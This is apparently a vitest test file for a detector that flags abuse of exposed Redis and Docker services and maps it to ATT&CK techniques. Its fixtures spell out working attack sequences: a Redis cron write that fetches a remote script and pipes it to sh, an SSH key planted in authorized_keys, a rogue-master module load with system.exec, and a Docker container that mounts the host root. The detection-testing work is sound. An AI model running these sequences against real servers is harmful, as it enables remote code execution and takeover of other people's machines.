import { describe, expect, it } from 'vitest';
import { createAnalysis } from '../analysis.ts';
import { eventOf } from '../event-fixture.ts';
import { abuse } from './abuse.ts';

const start = 1_750_000_000_000;
const play = (inputs: string[], head = {}) => {
  const analysis = createAnalysis([abuse]);
  return inputs.flatMap((input, n) =>
    analysis.push(
      eventOf(
        { kind: 'command', input },
        {
          time: start + n * 100,
          protocol: 'redis',
          dst: { ip: '198.51.100.1', port: 6379 },
          session: `s${n}`,
          ...head,
        },
      ),
    ),
  );
};

describe('abuse', () => {
  it('tells Redis made to write a cron job (R1)', () => {
    const signals = play([
      'info',
      'config set dbfilename "backup.db"',
      'save',
      'config set stop-writes-on-bgsave-error no',
      'flushall',
      'set backup1 "\\n\\n\\n*/2 * * * * root cd1 -fsSL http://192.0.2.66/b.sh | sh\\n\\n"',
      'config set dir /var/spool/cron/',
      'config set dbfilename root',
      'save',
    ]);
    expect(signals).toMatchObject([{ evidence: 'E4', confidence: 0.95 }]);
    expect(signals[0]!.attack).toContain('T1053.003');
  });

  it('tells Redis made to write a key (R2), quoted or not', () => {
    expect(
      play([
        'CONFIG SET "dir" "/root/.ssh"',
        'SET x "\\n\\nssh-rsa AAAA x\\n"',
        'CONFIG SET dbfilename authorized_keys',
        'BGSAVE',
      ]),
    ).toHaveLength(1);
  });

  it('tells Redis made to load a module (R3)', () => {
    const signals = play([
      'SLAVEOF 192.0.2.66 6379',
      'MODULE LOAD ./exp.so',
      'SLAVEOF NO ONE',
      'system.exec "id"',
    ]);
    expect(signals).toMatchObject([{ attack: ['T1190', 'T1129'] }]);
  });

  it('tells Docker made to give the machine away', () => {
    const analysis = createAnalysis([abuse]);
    const post = (target: string, body?: string) =>
      analysis.push(
        eventOf(
          {
            kind: 'request',
            method: 'POST',
            target,
            status: 201,
            headers: [['User-Agent', 'Go-http-client/1.1']],
            ...(body ? { body } : {}),
          },
          { time: start, protocol: 'http', dst: { ip: '198.51.100.1', port: 2375 } },
        ),
      );
    expect(
      post('/v1.43/containers/create', '{"Image":"alpine","HostConfig":{"Binds":["/:/hostroot"]}}'),
    ).toEqual([]);
    expect(post('/v1.43/containers/0a1b/start')).toMatchObject([
      { attack: ['T1610', 'T1611'], evidence: 'E4' },
    ]);
  });

  it('leaves a cache’s client and an administrator alone', () => {
    expect(
      play([
        'ping',
        'info',
        'set session:1 "x"',
        'get session:1',
        'config get dir',
        'config set maxmemory 1gb',
        'save',
        'slaveof no one',
      ]),
    ).toEqual([]);
  });

  it('wants the steps of one source', () => {
    const analysis = createAnalysis([abuse]);
    const one = (input: string, ip: string) =>
      analysis.push(
        eventOf({ kind: 'command', input }, { time: start, protocol: 'redis', src: { ip, port: 1 } }),
      );
    expect(one('SLAVEOF 192.0.2.66 6379', '192.0.2.1')).toEqual([]);
    expect(one('MODULE LOAD ./exp.so', '192.0.2.2')).toEqual([]);
  });

  it('proves nothing where a browser spoke', () => {
    expect(play(['SLAVEOF 192.0.2.66 6379', 'MODULE LOAD ./exp.so'], { handshake: 'relayed' })).toMatchObject(
      [{ evidence: 'E1' }],
    );
  });
});
